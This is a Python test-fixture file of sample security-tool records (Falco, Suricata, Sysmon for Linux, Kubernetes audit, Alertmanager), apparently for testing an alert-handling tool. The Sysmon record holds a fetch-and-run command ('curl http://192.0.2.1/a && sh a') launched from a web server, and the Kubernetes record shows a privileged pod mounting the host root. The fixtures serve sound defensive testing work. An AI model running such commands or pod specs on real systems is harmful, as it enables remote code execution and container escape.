"""Records as other tools write them, after the examples of their own documentation (addresses and names are ours)."""

from typing import Any

FALCO: dict[str, Any] = {
    "hostname": "node-7",
    "output": "09:30:49.264147779: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root)",
    "output_fields": {
        "container.id": "4e5cd0dbd4ec", "container.image.repository": "docker.io/library/nginx", "evt.time": 1795253449264147779,
        "evt.type": "execve", "k8s.ns.name": None, "k8s.pod.name": "<NA>", "proc.cmdline": "bash -i", "proc.exepath": "/bin/bash",
        "proc.name": "bash", "proc.pname": "runc", "proc.pid": 4242, "proc.tty": 34816, "user.loginuid": -1, "user.name": "root",
    },
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["container", "mitre_execution", "shell", "T1059"],
    "time": "2026-11-21T09:30:49.264147779Z",
}  # fmt: skip
"""What Falco prints with `json_output: true` (falco.org/docs/concepts/outputs)."""

SURICATA: dict[str, Any] = {
    "timestamp": "2026-11-21T09:30:49.264147+0000", "flow_id": 1805461738637437, "in_iface": "eth0", "event_type": "alert",
    "src_ip": "203.0.113.47", "src_port": 54321, "dest_ip": "192.0.2.10", "dest_port": 80, "proto": "TCP",
    "alert": {
        "action": "allowed", "gid": 1, "signature_id": 2024364, "rev": 4, "signature": "ET SCAN Possible Nmap User-Agent Observed",
        "category": "Web Application Attack", "severity": 1,
    },
    "http": {"hostname": "www.example.org", "url": "/", "http_user_agent": "Nmap", "http_method": "GET", "status": 200},
    "app_proto": "http",
}  # fmt: skip
"""A line of eve.json (docs.suricata.io, EVE JSON format)."""

SYSMON_XML = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID>'
    '<Version>5</Version><TimeCreated SystemTime="2026-11-21T09:30:49.264147000Z"/><EventRecordID>8751</EventRecordID>'
    '<Channel>Linux-Sysmon/Operational</Channel><Computer>web-1</Computer><Security UserId="0"/></System><EventData>'
    '<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-21 09:30:49.270</Data><Data Name="ProcessId">9678</Data>'
    '<Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c &quot;curl http://192.0.2.1/a &amp;&amp; sh a&quot;'
    '</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">www-data</Data><Data Name="ParentProcessId">9677</Data>'
    '<Data Name="ParentImage">/usr/sbin/apache2</Data><Data Name="ParentCommandLine">-</Data></EventData></Event>'
)
"""What Sysmon for Linux writes to syslog."""

KUBERNETES: dict[str, Any] = {
    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "stage": "ResponseComplete",
    "auditID": "7d1f0a5e-8e8b-4a2a-b9bf-4f0b7a1c2d3e", "requestURI": "/api/v1/namespaces/default/pods", "verb": "create",
    "user": {"username": "system:serviceaccount:ci:builder", "groups": ["system:serviceaccounts", "system:authenticated"]},
    "sourceIPs": ["198.51.100.7", "192.0.2.3"], "userAgent": "kubectl/v1.31",
    "objectRef": {"resource": "pods", "namespace": "default", "name": "x", "apiVersion": "v1"},
    "requestObject": {
        "kind": "Pod",
        "spec": {
            "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            "containers": [{"name": "c", "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}}],
        },
    },
    "responseStatus": {"metadata": {}, "code": 201},
    "requestReceivedTimestamp": "2026-11-21T09:30:49.264147Z", "stageTimestamp": "2026-11-21T09:30:49.300000Z",
}  # fmt: skip
"""A line of the audit log of an API server (kubernetes.io/docs/tasks/debug/debug-cluster/audit)."""


def an_alertmanager_alert(status: str = "firing", name: str = "DiskWillFill", **labels: str) -> dict[str, Any]:
    """One alert of a notification."""
    return {
        "status": status,
        "labels": {"alertname": name, "instance": "192.0.2.10:9100", "job": "node", "severity": "critical", **labels},
        "annotations": {"summary": "The disk is full in four hours"},
        "startsAt": "2026-11-21T09:30:00.000Z",
        "endsAt": "2026-11-21T09:40:00.000Z" if status == "resolved" else "0001-01-01T00:00:00Z",
        "generatorURL": "http://prometheus.example/graph",
        "fingerprint": f"c2b7f4{'-'.join(labels.values())}{name.lower()}",
    }


def alertmanager(*alerts: dict[str, Any]) -> dict[str, Any]:
    """A webhook of Alertmanager, version 4 (prometheus.io/docs/alerting/latest/configuration, webhook_config)."""
    listed = list(alerts or [an_alertmanager_alert()])
    return {
        "receiver": "tellwhy", "status": "firing" if any(one["status"] == "firing" for one in listed) else "resolved",
        "alerts": listed, "groupLabels": {"alertname": "DiskWillFill"}, "commonLabels": {}, "commonAnnotations": {},
        "externalURL": "http://alertmanager.example", "version": "4", "groupKey": '{}:{alertname="DiskWillFill"}',
        "truncatedAlerts": 0,
    }  # fmt: skip
